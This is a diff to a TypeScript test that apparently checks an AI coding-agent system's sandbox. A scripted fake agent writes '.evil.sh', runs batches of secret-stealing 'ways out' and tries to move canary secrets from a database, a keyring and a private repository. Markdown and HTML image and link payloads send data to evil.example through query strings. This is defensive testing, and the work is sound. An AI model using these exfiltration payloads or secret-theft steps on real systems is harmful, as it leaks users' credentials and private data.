@@ -6,16 +6,17 @@ import { mkdir, mkdtemp, rm, writeFile } from 'node:fs/promises';
 import { createServer, type Server } from 'node:net';
 import { tmpdir } from 'node:os';
 import { dirname, join } from 'node:path';
-import { marked } from 'marked';
 import { afterAll, beforeAll, describe, expect, vi } from 'vitest';
 import type { ConversationFile } from '../../demo/model/conversation-format.ts';
 import { type RunningModel, startModel } from '../../demo/model/start-model.ts';
 import { BUBBLEWRAP_MISSING, hasBubblewrap } from '../support/bubblewrap.ts';
 import { type CrewParts, startParts } from '../support/crew-parts.ts';
 import { type TestDatabase, testDatabase } from '../support/database.ts';
-import { agrees, audits, findsTested, plans } from '../support/scripted-crew.ts';
+import { plans } from '../support/scripted-crew.ts';
+import { isQuiet, shortenEditIntervals, whatStands } from '../support/stage-watch.ts';
 import { tinyShop } from '../support/tiny-shop.ts';
 import { allThatLeft, said } from './support/all-that-left.ts';
+import { carriersIn } from './support/carriers.ts';
 import {
   OTHER_CHECKOUT,
   PRELUDE,
@@ -23,17 +24,19 @@ import {
   trapsForChecks,
   type WayOut,
   waysOut,
+  withKeyring,
 } from './support/ways-out.ts';
 import { trial } from './trial.ts';
 
 const REPOSITORY = 'harbor/shop';
 const OTHER = 'harbor/vault';
-const WAIT = { timeout: 280_000, interval: 200 };
+const WAIT = { timeout: 100_000, interval: 200 };
 const ABSTRACT = `crew-${process.pid}`;
+const CREW = JSON.stringify({ roles: ['strategist', 'backend'], checks: ['npm test'] });
 const WAYS_A_TURN = 6;
 /** Free for anybody to fetch; what an agent may know. */
 const PUBLIC = 'open-word';
-const IMAGES = `![x](https://evil.example/?q=${PUBLIC}) <img src="https://evil.example/?q=${PUBLIC}"> [docs](https://evil.example/?q=${PUBLIC}) ![r][r]\n\n[r]: https://evil.example/?q=${PUBLIC}`;
+const IMAGES = `![x](https://evil.example/?q=${PUBLIC}) <img src="https://evil.example/?q=${PUBLIC}"> [docs](https://evil.example/?q=${PUBLIC}) ![r][r] ![o](https://github.com/evil/x?q=${PUBLIC})\n\n[r]: https://evil.example/?q=${PUBLIC}`;
 
 let dir: string;
 let database: TestDatabase;
@@ -53,6 +56,7 @@ describe.skipIf(!hasBubblewrap)(`an agent that steals${BUBBLEWRAP_MISSING}`, () 
   beforeAll(async () => {
     dir = await mkdtemp(join(tmpdir(), 'crew-ways-out-'));
     database = await testDatabase();
+    await shortenEditIntervals(database.pool);
   });
   afterAll(async () => {
     await parts?.close();
@@ -64,7 +68,7 @@ describe.skipIf(!hasBubblewrap)(`an agent that steals${BUBBLEWRAP_MISSING}`, () 
 
   trial(
     'gets no secret by any way, and carries nothing away',
-    { full: { ways: 100 }, short: { ways: 12 }, minutes: { full: 8, short: 5 } },
+    { full: { ways: 100 }, short: { ways: 10 }, minutes: { full: 8 } },
     async ({ size, random, count }) => {
       const home = join(dir, 'home');
       const stateDir = join(dir, 'worker-1');
@@ -92,9 +96,11 @@ describe.skipIf(!hasBubblewrap)(`an agent that steals${BUBBLEWRAP_MISSING}`, () 
       });
       await parts.github.as('harbor').label(REPOSITORY, number, 'crew:auto');
       await vi.waitFor(async () => {
-        const [found] = (await parts.github.snapshot(REPOSITORY)).pulls;
-        if (found === undefined) throw new Error(`no pull request:\n${parts.output().slice(-4_000)}`);
+        const { rows } = await database.pool.query('select from tasks where finished_at is not null');
+        if (rows.length === 0 || !(await isQuiet(parts.github, database.pool)))
+          throw new Error(`${await whatStands(database.pool, model)}\n${parts.output().slice(-4_000)}`);
       }, WAIT);
+      expect(await whatStands(database.pool, model)).toMatch(/^implement on #1 is done: $/m);
       execFileSync('perl', ['-e', `shmctl(${memory}, 0, 0)`]);
 
       const gitDir = join(dir, 'github/repositories', `${REPOSITORY}.git`);
@@ -121,16 +127,6 @@ describe.skipIf(!hasBubblewrap)(`an agent that steals${BUBBLEWRAP_MISSING}`, () 
     },
   );
 });
-
-/** Images, and links elsewhere that do not show where they lead, as a page has them. */
-function carriersIn(markdown: string): readonly string[] {
-  const html = marked
-    .parse(markdown, { async: false, gfm: true })
-    .replace(/<(code|pre)\b[\s\S]*?<\/\1>/g, '');
-  const links = [...html.matchAll(/<a href="([^"]*evil[^"]*)"[^>]*>([\s\S]*?)<\/a>/g)];
-  const hiding = links.filter(([, address, shown]) => address !== shown).map(([link]) => link);
-  return [...(html.match(/<(?:img|picture|source|video|svg)\b[^>]*>/g) ?? []), ...hiding];
-}
 
 function reachedIn(text: string): readonly string[] {
   return [...new Set(text.match(new RegExp(`${REACHED}[^"\\\\]*`, 'g')) ?? [])];
@@ -195,23 +191,22 @@ async function start(home: string, ways: readonly WayOut[], trap: number): Promi
   const conversations = [
     plans([{ role, title: `Take it ${PUBLIC}`, goal: IMAGES, files: ['lib/price.js'] }], planned),
     steals(role, ways, home, trap),
-    audits(),
-    findsTested(),
-    agrees(),
   ];
   for (const [at, conversation] of conversations.entries())
     await writeFile(join(conversationsDir, `${at}.yaml`), JSON.stringify(conversation));
   model = await startModel({ conversationsDir });
   const withCanary = new URL(database.url);
   withCanary.searchParams.set('application_name', canary('database'));
+  const keyring = withKeyring(canary('keyring'));
   parts = await startParts({
     dir,
     databaseUrl: withCanary.href,
     modelUrl: model.url,
     workers: ['all'],
     sample: false,
+    inside: (verb) => (verb === 'worker' ? keyring : []),
     repositories: [
-      { name: REPOSITORY, files: tinyShop({ '.github/crew.yml': 'checks:\n  - npm test\n' }) },
+      { name: REPOSITORY, files: tinyShop({ '.github/crew.yml': CREW }) },
       { name: OTHER, private: true, files: { 'vault.txt': `${canary('vault')}\n` } },
     ],
     environment: {
@@ -241,7 +236,7 @@ function steals(role: string, ways: readonly WayOut[], home: string, trap: numbe
   const settings = filled.map((name) => `${name.toUpperCase()}={{ ${name}.value }}`).join(' ');
   const turns = [
     { calls: [{ tool: 'write', input: { file_path: '.evil.sh', content: `${settings}\n${PRELUDE}` } }] },
-    ...groups.map((group) => ({ calls: [bash(group.map(asCommand).join('\n'))] })),
+    ...groups.map((group) => ({ calls: [bash(`{ ${group.map(asCommand).join('\n')}\nwait; } | cat`)] })),
     { calls: [bash(made.join('; '))] },
     { calls: reads.map((file_path) => ({ tool: 'read', input: { file_path } })) },
     {
@@ -254,7 +249,7 @@ function steals(role: string, ways: readonly WayOut[], home: string, trap: numbe
     {
       calls: [
         bash(
-          'chmod +x node_modules/.bin/*; rm -rf .evil.sh g r m n stolen* link-*; git checkout -b x 2>&1; true',
+          'chmod +x node_modules/.bin/* tools/*; rm -rf .evil.sh f g r m n stolen* link-*; git checkout -b x 2>&1; true',
         ),
       ],
     },
@@ -288,7 +283,7 @@ function steals(role: string, ways: readonly WayOut[], home: string, trap: numbe
 }
 
 function asCommand({ name, run }: WayOut): string {
-  return `way='${name.replaceAll("'", '')}'; echo "== $way"; ( . ./.evil.sh; ${run} ) 2>/dev/null`;
+  return `( way='${name.replaceAll("'", '')}'; echo "== $way"; . ./.evil.sh; ${run} ) 2>/dev/null &`;
 }
 
 function portOf(url: string): number {
